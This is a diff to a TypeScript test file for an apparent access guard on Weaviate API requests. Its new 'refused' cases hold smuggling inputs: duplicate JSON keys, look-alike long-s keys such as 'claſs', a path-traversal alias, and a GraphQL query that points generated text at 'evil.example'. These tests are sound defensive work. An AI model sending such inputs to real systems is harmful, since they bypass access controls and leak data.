@@ -63,6 +63,14 @@ test('another name for a collection says which, also where it moves', () => {
   expect(rest('DELETE', '/v1/aliases/Lending')).toEqual({ kind: 'unalias', collections: ['Lending'] });
 });
 
+test('properties may have any name, and a text of a block may look like JSON', () => {
+  const properties = { claſs: 'x', Class: 'y', text: '{"class": 1, "class": 2}' };
+  expect(rest('POST', '/v1/objects', { class: 'Film', properties: { nested: properties } })).toEqual({
+    kind: 'change',
+    collections: ['Film'],
+  });
+});
+
 test('a name that begins with a small letter is the collection that Weaviate takes it for', () => {
   expect(rest('DELETE', '/v1/schema/film')).toEqual({ kind: 'delete', collections: ['Film'] });
 });
@@ -78,7 +86,36 @@ test('gRPC writes name their collections, each time that one is written', () => 
   expect(grpc('BatchDelete', twice)).toEqual({ kind: 'change', collections: ['Own', 'Foreign'] });
 });
 
+const raw = (method: string, path: string, text: string) =>
+  deedOf({ method, path, headers: {}, body: new TextEncoder().encode(text) }, path);
+
 const refused: [string, () => unknown][] = [
+  ['a key with a long s', () => rest('POST', '/v1/schema', { class: 'Own', claſs: 'Foreign' })],
+  ['an alias with a long s', () => rest('POST', '/v1/aliases', { alias: 'A', aliaſ: 'B', class: 'Own' })],
+  [
+    'a batch with a long s',
+    () => rest('POST', '/v1/batch/objects', { objects: [{ class: 'A', claſs: 'B' }] }),
+  ],
+  [
+    'a filter with a long s',
+    () => rest('DELETE', '/v1/batch/objects', { match: { class: 'A', claſs: 'B' } }),
+  ],
+  ['an encoded long s', () => raw('POST', '/v1/schema', '{"class":"Own","cla\\u017fs":"Foreign"}')],
+  ['a key written twice', () => raw('POST', '/v1/schema', '{"class":"Own","class":"Foreign"}')],
+  [
+    'a key written twice further inside',
+    () => raw('DELETE', '/v1/batch/objects', '{"match":{"class":"Foreign"},"match":{"class":"Own"}}'),
+  ],
+  [
+    'an alias that is a path',
+    () => rest('POST', '/v1/aliases', { alias: '../schema/Foreign', class: 'Own' }),
+  ],
+  ['an alias that is no text', () => rest('POST', '/v1/aliases', { alias: null, class: 'Own' })],
+  [
+    'a GraphQL query that says where texts go',
+    () => rest('POST', '/v1/graphql', { query: '{ generate(openai: { baseURL: "https://evil.example" }) }' }),
+  ],
+  ['a search that cannot be read', () => grpc('Search', new Uint8Array([0xe2, 3, 9]))],
   ['a backup', () => rest('POST', '/v1/backups/filesystem', { id: 'x' })],
   ['an encoded path', () => rest('DELETE', '/v1/schema/%46ilm')],
   ['an empty step in a path', () => rest('DELETE', '/v1//schema/Film')],
